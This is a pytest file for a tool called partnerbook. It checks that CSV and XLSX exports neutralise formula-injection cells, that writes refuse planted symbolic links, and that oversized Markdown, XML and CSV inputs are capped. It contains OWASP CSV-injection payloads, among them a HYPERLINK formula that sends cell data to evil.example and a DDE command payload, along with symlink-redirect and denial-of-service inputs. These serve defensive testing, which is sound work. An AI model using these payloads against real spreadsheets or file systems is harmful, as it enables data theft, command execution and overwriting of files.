"""What partnerbook writes from hostile data (issue 30, cases 2–4): exports and site downloads
hold no live formula, no write goes through a planted link, and input that would make
Markdown, the XML parser or the importers run for minutes is capped."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from hostile_tools import MIB, NETWORK_HEAD, assert_refused, handbook, run, write

# Cells a spreadsheet would run: OWASP's CSV-injection examples, and text already quoted once.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1,2)", "\tTabbed", "'=already quoted"]
TRIMMED = [name.strip() for name in FORMULAS]  # what an import gives back: the importers trim every cell
LONG_DESCRIPTION = "[a](" * 20_000  # 80 KB: Python-Markdown took 74 s on it (each `[a](` rescans the rest)


def _network() -> str:
    partners = "".join(f"  - id: f{i}\n    name: {yaml.safe_dump(name).splitlines()[0]}\n    network: ovn\n"
                       for i, name in enumerate(FORMULAS))
    return (NETWORK_HEAD + f"partners:\n  - id: hub\n    name: Hub Org\n    description: \"{LONG_DESCRIPTION}\"\n"
            + partners + "funding:\n  - {from: f0, to: hub, amount: 1500, currency: USD, date: 2025-01-01}\n")


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """The handbook, built once under the resource limits (the Markdown cap keeps it short)."""
    book = handbook(tmp_path_factory.mktemp("formulas"), _network())
    result = run(book, "mkdocs", "build", cpu=60)
    assert result.code == 0, result.text[-3000:]
    return book


def _assert_neutral(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"live formula cell {cell!r}"


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_csv_export_and_site_downloads_hold_no_formula_and_import_restores_the_text(built: Path) -> None:
    result = run(built, "partnerbook", "export", "--format", "csv", "-o", "tables")
    assert result.code == 0, result.text
    downloads = {path.name: path for path in (built / "site").rglob("*.csv")}
    for tables in (built / "tables", downloads["partners.csv"].parent):
        partners = _csv(tables / "partners.csv")
        _assert_neutral(partners)
        names = [row[partners[0].index("name")] for row in partners[1:]]
        assert names == ["Hub Org"] + ["'" + name for name in FORMULAS]  # one quote more, each
        funding = _csv(tables / "funding.csv")
        assert funding[1][funding[0].index("amount")] == "1500"  # a number stays a number
        _assert_neutral(funding)
    # The round trip: `import csv` takes the quote away again.
    result = run(built, "partnerbook", "import", "csv", "tables", "--focal", "hub", "-o", "again")
    assert result.code == 0, result.text[-2000:]
    partners = yaml.safe_load((built / "again" / "partners.yml").read_text(encoding="utf-8"))["partners"]
    assert [p["name"] for p in partners] == ["Hub Org", *TRIMMED]


def test_xlsx_export_writes_text_cells_never_formulas(built: Path) -> None:
    result = run(built, "partnerbook", "export", "--format", "xlsx", "-o", "book.xlsx")
    assert result.code == 0, result.text
    with zipfile.ZipFile(built / "book.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = openpyxl.load_workbook(built / "book.xlsx")
    names = {cell.value: cell.data_type for (cell,) in book["partners"].iter_rows(min_col=2, max_col=2, min_row=2)}
    assert names == {"Hub Org": "s", **{name: "s" for name in FORMULAS}}
    amount = book["funding"].cell(row=2, column=[c.value for c in book["funding"][1]].index("amount") + 1)
    assert (amount.value, amount.data_type) == (1500, "n")
    result = run(built, "partnerbook", "import", "xlsx", "book.xlsx", "--focal", "hub", "-o", "from-xlsx")
    assert result.code == 0, result.text[-2000:]
    partners = yaml.safe_load((built / "from-xlsx" / "partners.yml").read_text(encoding="utf-8"))["partners"]
    assert [p["name"] for p in partners] == ["Hub Org", *TRIMMED]


def test_markdown_too_costly_is_shown_as_plain_text(built: Path) -> None:
    page = (built / "site" / "partners" / "hub" / "index.html").read_text(encoding="utf-8")
    assert "Shown as plain text: too long or too intricate to format." in page
    assert "[a]([a](" in page


# -- writes through planted links ------------------------------------------------------------

@pytest.fixture
def small(tmp_path: Path) -> Path:
    book = handbook(tmp_path / "book", NETWORK_HEAD + "partners:\n  - id: hub\n    name: Hub Org\n"
                                                      "  - id: maker\n    name: Maker\n    network: ovn\n")
    write(tmp_path, "outside/victim.csv", "original\n")
    return book


def test_export_never_writes_through_a_planted_temporary_name(small: Path) -> None:
    # The export's temporary file had a fixed name next to the target: a link planted there
    # redirected the write to any file the user may write.
    victim = small.parent / "outside" / "victim.csv"
    (small / "tables").mkdir()
    os.symlink(victim, small / "tables" / ".partners.csv.partnerbook-tmp")
    result = run(small, "partnerbook", "export", "--format", "csv", "-o", "tables")
    assert result.code == 0, result.text
    assert victim.read_text() == "original\n"
    assert "maker" in (small / "tables" / "partners.csv").read_text(encoding="utf-8")


def test_export_refuses_a_link_at_its_target(small: Path) -> None:
    victim = small.parent / "outside" / "victim.csv"
    (small / "tables").mkdir()
    os.symlink(victim, small / "tables" / "partners.csv")
    result = run(small, "partnerbook", "export", "--format", "csv", "-o", "tables")
    assert_refused(result, "tables/partners.csv: is a symbolic link")
    assert victim.read_text() == "original\n"
    assert sorted(p.name for p in (small / "tables").iterdir()) == ["partners.csv"]  # nothing else written


def test_import_refuses_a_link_in_its_output_folder(small: Path) -> None:
    # out/partners.yml links to a folder outside: the import moved its file into that folder.
    outside = small.parent / "outside"
    (small / "tables").mkdir()
    (small / "tables" / "partners.csv").write_text("id,name,network\nhub,Hub,\nmaker,Maker,ovn\n", encoding="utf-8")
    (small / "out").mkdir()
    os.symlink(outside, small / "out" / "partners.yml")
    result = run(small, "partnerbook", "import", "csv", "tables", "--focal", "hub", "-o", "out", "--force")
    assert_refused(result, "out/partners.yml: is a symbolic link")
    assert sorted(p.name for p in outside.iterdir()) == ["victim.csv"]


def test_generate_refuses_a_docs_folder_linking_outside(small: Path) -> None:
    # content/partners linked to a folder outside the docs folder: the stubs landed there.
    outside = small.parent / "outside"
    os.symlink(outside, small / "content" / "partners")
    result = run(small, "partnerbook", "generate", cpu=60)
    assert_refused(result, "content/partners/hub.md: leads outside content")
    assert sorted(p.name for p in outside.iterdir()) == ["victim.csv"]


# -- inputs that cost too much -------------------------------------------------------------

def test_an_import_file_over_its_format_cap_is_refused(tmp_path: Path) -> None:
    tables = tmp_path / "tables"
    tables.mkdir()
    with open(tables / "partners.csv", "wb") as handle:  # sparse: 65 MiB that take no room
        handle.write(b"id,name\n")
        handle.truncate(65 * MIB)
    result = run(tmp_path, "partnerbook", "import", "csv", str(tables), "--focal", "hub", "-o", "out")
    assert_refused(result, f"{tables / 'partners.csv'}: 65 MiB, over the 64 MiB that `import csv` reads")


def test_an_xml_attribute_of_megabytes_is_refused_with_its_line(tmp_path: Path) -> None:
    # expat before 2.6 rescans a long token at every read: a 64 MB attribute took 30–90 s.
    graph = tmp_path / "graph.graphml"
    graph.write_bytes(b'<?xml version="1.0"?>\n<graphml xmlns="http://graphml.graphdrawing.org/xmlns">\n'
                      b'<graph edgedefault="directed">\n<node id="a"/>\n<node id="b" name="'
                      + b"x" * (8 * MIB) + b'"/>\n</graph>\n</graphml>\n')
    result = run(tmp_path, "partnerbook", "import", "graphml", str(graph), "-o", "out")
    assert_refused(result, f"{graph}:5: an attribute or text of over 1 MiB without markup")
